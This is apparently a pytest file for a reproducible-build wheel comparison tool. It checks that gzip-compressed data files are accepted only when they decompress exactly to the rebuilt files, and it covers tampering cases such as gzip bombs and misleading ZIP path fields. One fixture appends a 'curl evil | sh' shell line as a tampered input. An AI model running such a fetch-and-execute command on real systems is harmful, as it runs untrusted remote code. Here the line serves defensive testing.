"""Data files published gzip-compressed after the build: explained pair by pair, or not at all."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zlib
from pathlib import Path

import pytest

from rebuild.compare import compare_wheels
from rebuild.compare.compressed import GzipPair
from rebuild.compare.rules import explain
from rebuild.models import Comparison, Divergence, DivergenceKind, Side, Verdict

from .wheels import make_wheel

DATA = "demo/data"


def service(i: int) -> bytes:
    return json.dumps({"service": i, "operations": [f"Op{n}" for n in range(50)]}).encode()


def gz(data: bytes, name: str | None = None, mtime: int = 1_700_000_000) -> bytes:
    """What botocore's release writes: gzip with the file's name stored (FNAME), as
    ``gzip.open(path, "wb")`` does."""
    out = io.BytesIO()
    with gzip.GzipFile(filename=name or "", mode="wb", fileobj=out, mtime=mtime) as f:
        f.write(data)
    return out.getvalue()


def wheels(
    tmp_path: Path,
    published: dict[str, bytes],
    rebuilt: dict[str, bytes],
    *,
    mode: dict[str, int] | None = None,
) -> Comparison:
    pub = make_wheel(tmp_path / "p.whl", changes=published, mode=mode or {})
    reb = make_wheel(tmp_path / "r.whl", changes=rebuilt)
    return compare_wheels(pub, reb)


def honest(count: int) -> tuple[dict[str, bytes], dict[str, bytes]]:
    published = {
        f"{DATA}/s{i}/service-2.json.gz": gz(service(i), "service-2.json") for i in range(count)
    }
    rebuilt = {f"{DATA}/s{i}/service-2.json": service(i) for i in range(count)}
    return published, rebuilt


def test_files_published_gzip_compressed_are_explained_with_the_count(tmp_path: Path) -> None:
    result = wheels(tmp_path, *honest(12))
    assert result.unexplained == ()
    one_side = [
        d
        for d in result.divergences
        if d.kind in (DivergenceKind.ONLY_PUBLISHED, DivergenceKind.ONLY_REBUILT)
    ]
    assert len(one_side) == 24
    assert {d.rules for d in one_side} == {("published-gzip",)}
    (sample,) = [d for d in one_side if d.member == f"{DATA}/s3/service-2.json.gz"]
    why = sample.explanation or ""
    assert "12 files published gzip-compressed, each decompressing to the rebuilt file" in why
    # It says plainly what an installer puts on disk.
    assert (
        f"the installed file differs: {DATA}/s3/service-2.json.gz where the rebuild installs "
        f"{DATA}/s3/service-2.json"
    ) in why
    # Each RECORD row follows its member; nothing else is left.
    rows = [d for d in result.divergences if d.kind is DivergenceKind.RECORD_ENTRY]
    assert len(rows) == 24
    assert {d.rules for d in rows} == {("record-follows-member",)}
    assert not [d for d in result.divergences if d.kind is DivergenceKind.INSTALLED_FILE]
    assert result.verdict is Verdict.DIVERGENT


def test_gzip_without_a_stored_name_is_accepted(tmp_path: Path) -> None:
    published = {f"{DATA}/a.json.gz": gzip.compress(service(1), mtime=0)}
    result = wheels(tmp_path, published, {f"{DATA}/a.json": service(1)})
    assert result.unexplained == ()


def only(result: Comparison, member: str) -> list[str]:
    return [
        d.kind.value
        for d in result.unexplained
        if d.member == member and d.kind is not DivergenceKind.RECORD_ENTRY
    ]


def assert_pair_unexplained(result: Comparison, gz_name: str, plain: str) -> None:
    assert only(result, gz_name) == ["only-published"]
    assert only(result, plain) == ["only-rebuilt"]
    assert result.verdict is Verdict.DIVERGENT


def raw_gzip(flags: int, header_extra: bytes, deflated: bytes, data: bytes) -> bytes:
    head = struct.pack("<BBBBIBB", 0x1F, 0x8B, 8, flags, 0, 0, 3)
    return head + header_extra + deflated + struct.pack("<II", zlib.crc32(data), len(data))


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return c.compress(data) + c.flush()


PLAIN = service(7)
TAMPERED = {
    "other content": gz(PLAIN.replace(b"Op1", b"Op9"), "a.json"),
    "one byte more": gz(PLAIN + b" ", "a.json"),
    "one byte fewer": gz(PLAIN[:-1], "a.json"),
    "trailing data": gz(PLAIN, "a.json") + b"#!/bin/sh\ncurl evil | sh\n",
    "trailing zeros": gz(PLAIN, "a.json") + b"\x00" * 16,
    "a second member": gz(PLAIN[:100], "a.json") + gz(PLAIN[100:], "a.json"),
    "a second empty member": gz(PLAIN, "a.json") + gz(b"", "a.json"),
    "truncated": gz(PLAIN, "a.json")[:-4],
    "a bad CRC": gz(PLAIN, "a.json")[:-8] + struct.pack("<II", 0, len(PLAIN)),
    "a bad size": gz(PLAIN, "a.json")[:-4] + struct.pack("<I", len(PLAIN) + 1),
    "another stored name": gz(PLAIN, "evil.sh"),
    "a comment": raw_gzip(0x10, b"payload here\x00", deflate(PLAIN), PLAIN),
    "an extra field": raw_gzip(0x04, b"\x06\x00AB\x02\x00hi", deflate(PLAIN), PLAIN),
    "a header CRC": raw_gzip(0x02, b"\x00\x00", deflate(PLAIN), PLAIN),
    "reserved flags": raw_gzip(0x20, b"", deflate(PLAIN), PLAIN),
    "not gzip at all": deflate(PLAIN),
    "zlib, not gzip": zlib.compress(PLAIN),
    "the plain file itself": PLAIN,
}


@pytest.mark.parametrize("how", list(TAMPERED))
def test_a_gz_that_is_not_exactly_the_rebuilt_file_stays_unexplained(
    tmp_path: Path, how: str
) -> None:
    result = wheels(tmp_path, {f"{DATA}/a.json.gz": TAMPERED[how]}, {f"{DATA}/a.json": PLAIN})
    assert_pair_unexplained(result, f"{DATA}/a.json.gz", f"{DATA}/a.json")
    (finding,) = [d for d in result.unexplained if d.member == f"{DATA}/a.json.gz"]
    assert f"not the gzip of the rebuilt {DATA}/a.json" in finding.detail


def test_the_reference_encoding_is_accepted(tmp_path: Path) -> None:
    # The hand-built header of the tests above, with nothing wrong: the pair holds.
    published = {f"{DATA}/a.json.gz": raw_gzip(0, b"", deflate(PLAIN), PLAIN)}
    assert wheels(tmp_path, published, {f"{DATA}/a.json": PLAIN}).unexplained == ()


def test_one_bad_pair_among_good_ones_is_the_only_one_left(tmp_path: Path) -> None:
    published, rebuilt = honest(5)
    published[f"{DATA}/s2/service-2.json.gz"] = gz(service(3), "service-2.json")
    result = wheels(tmp_path, published, rebuilt)
    left = {d.member for d in result.unexplained if d.kind is not DivergenceKind.RECORD_ENTRY}
    assert left == {f"{DATA}/s2/service-2.json.gz", f"{DATA}/s2/service-2.json"}
    explained = [d for d in result.divergences if d.rules == ("published-gzip",)]
    assert len(explained) == 8
    assert "4 files published gzip-compressed" in (explained[0].explanation or "")


def test_a_gz_bomb_is_not_inflated_past_the_rebuilt_size(tmp_path: Path) -> None:
    # 64 MiB of zeros in about 64 KiB: the check stops one byte past the rebuilt file's size.
    bomb = gz(PLAIN + b"\x00" * (64 * 1024 * 1024), "a.json")
    assert len(bomb) < 100 * 1024
    result = wheels(tmp_path, {f"{DATA}/a.json.gz": bomb}, {f"{DATA}/a.json": PLAIN})
    assert_pair_unexplained(result, f"{DATA}/a.json.gz", f"{DATA}/a.json")
    (finding,) = [d for d in result.unexplained if d.member == f"{DATA}/a.json.gz"]
    assert f"decompresses to over {len(PLAIN):,} bytes" in finding.detail


def test_a_gz_with_no_rebuilt_counterpart_stays_unexplained(tmp_path: Path) -> None:
    result = wheels(tmp_path, {f"{DATA}/a.json.gz": gz(PLAIN, "a.json")}, {})
    assert only(result, f"{DATA}/a.json.gz") == ["only-published"]


def test_a_rebuilt_file_with_no_published_gz_stays_unexplained(tmp_path: Path) -> None:
    result = wheels(tmp_path, {}, {f"{DATA}/a.json": PLAIN})
    assert only(result, f"{DATA}/a.json") == ["only-rebuilt"]


def test_a_gz_of_a_file_in_another_place_stays_unexplained(tmp_path: Path) -> None:
    result = wheels(
        tmp_path, {f"{DATA}/x/a.json.gz": gz(PLAIN, "a.json")}, {f"{DATA}/y/a.json": PLAIN}
    )
    assert_pair_unexplained(result, f"{DATA}/x/a.json.gz", f"{DATA}/y/a.json")


def test_a_gz_beside_its_published_plain_file_stays_unexplained(tmp_path: Path) -> None:
    # Both published, only the plain one rebuilt: the .gz is a file the sdist does not make.
    result = wheels(
        tmp_path,
        {f"{DATA}/a.json.gz": gz(PLAIN, "a.json"), f"{DATA}/a.json": PLAIN},
        {f"{DATA}/a.json": PLAIN},
    )
    assert only(result, f"{DATA}/a.json.gz") == ["only-published"]


def test_the_rebuild_compressing_is_not_this_rule(tmp_path: Path) -> None:
    result = wheels(tmp_path, {f"{DATA}/a.json": PLAIN}, {f"{DATA}/a.json.gz": gz(PLAIN, "a.json")})
    assert only(result, f"{DATA}/a.json") == ["only-published"]
    assert only(result, f"{DATA}/a.json.gz") == ["only-rebuilt"]


@pytest.mark.parametrize(
    "plain",
    [
        "demo/core2.py",  # code
        "demo/data/a.txt",  # data other than the class seen
        "demo/x.pth",
        "demo-1.0.dist-info/extra.json",  # dist-info
        "demo-1.0.data/data/share/a.json",  # a .data scheme
        "demo-1.0.data/scripts/a.json",
    ],
)
def test_only_json_data_files_of_the_package_are_paired(tmp_path: Path, plain: str) -> None:
    body = b"def f():\n    return 1\n" if plain.endswith(".py") else PLAIN
    result = wheels(tmp_path, {f"{plain}.gz": gz(body, plain.rpartition("/")[2])}, {plain: body})
    assert only(result, f"{plain}.gz") == ["only-published"]
    assert only(result, plain) == ["only-rebuilt"]


def test_an_executable_gz_for_a_plain_file_stays_unexplained(tmp_path: Path) -> None:
    name = f"{DATA}/a.json.gz"
    result = wheels(
        tmp_path, {name: gz(PLAIN, "a.json")}, {f"{DATA}/a.json": PLAIN}, mode={name: 0o755}
    )
    assert_pair_unexplained(result, name, f"{DATA}/a.json")
    (finding,) = [d for d in result.unexplained if d.member == name]
    assert "executable bit" in finding.detail


def test_a_duplicated_gz_entry_stays_unexplained(tmp_path: Path) -> None:
    name = f"{DATA}/a.json.gz"
    pub = make_wheel(
        tmp_path / "p.whl",
        changes={name: gz(PLAIN, "a.json")},
        duplicates={name: gz(b"{}", "a.json")},
    )
    reb = make_wheel(tmp_path / "r.whl", changes={f"{DATA}/a.json": PLAIN})
    result = compare_wheels(pub, reb)
    assert "only-published" in only(result, name)
    assert "duplicate-name" in only(result, name)
    assert not [d for d in result.divergences if "published-gzip" in d.rules]
    assert result.verdict is Verdict.DIVERGENT


def test_a_gz_that_some_cpython_installs_elsewhere_stays_unexplained(tmp_path: Path) -> None:
    # CPython 3.12+ reads the Info-ZIP Unicode Path field: the entry lands at another path
    # there, which the pairing by stored name alone would miss.
    name = f"{DATA}/a.json.gz"
    elsewhere = f"{DATA}/b.json.gz".encode()
    field = struct.pack("<BL", 1, zlib.crc32(name.encode())) + elsewhere
    extra = struct.pack("<HH", 0x7075, len(field)) + field
    pub = make_wheel(tmp_path / "p.whl", changes={name: gz(PLAIN, "a.json")}, extra={name: extra})
    reb = make_wheel(tmp_path / "r.whl", changes={f"{DATA}/a.json": PLAIN})
    result = compare_wheels(pub, reb)
    assert "only-published" in only(result, name)
    assert not [d for d in result.divergences if "published-gzip" in d.rules]
    (finding,) = [
        d for d in result.unexplained if d.member == name and d.kind.value == "only-published"
    ]
    assert "not installed at its stored name" in finding.detail


def test_the_rule_needs_the_checked_pair_on_the_right_side() -> None:
    pair = GzipPair(f"{DATA}/a.json.gz", f"{DATA}/a.json")
    pub = Divergence(DivergenceKind.ONLY_PUBLISHED, "x", pair.published, side=Side.PUBLISHED)
    reb = Divergence(DivergenceKind.ONLY_REBUILT, "x", pair.rebuilt, side=Side.REBUILT)
    assert [d.rules for d in explain([pub, reb], gzipped=frozenset({pair}))] == [
        ("published-gzip",),
        ("published-gzip",),
    ]
    # Without the check's pair, or with the names on the other sides: nothing.
    assert [d.rules for d in explain([pub, reb])] == [(), ()]
    swapped = [
        Divergence(DivergenceKind.ONLY_REBUILT, "x", pair.published, side=Side.REBUILT),
        Divergence(DivergenceKind.ONLY_PUBLISHED, "x", pair.rebuilt, side=Side.PUBLISHED),
        Divergence(DivergenceKind.CONTENT, "x", pair.published),
    ]
    assert [d.rules for d in explain(swapped, gzipped=frozenset({pair}))] == [(), (), ()]
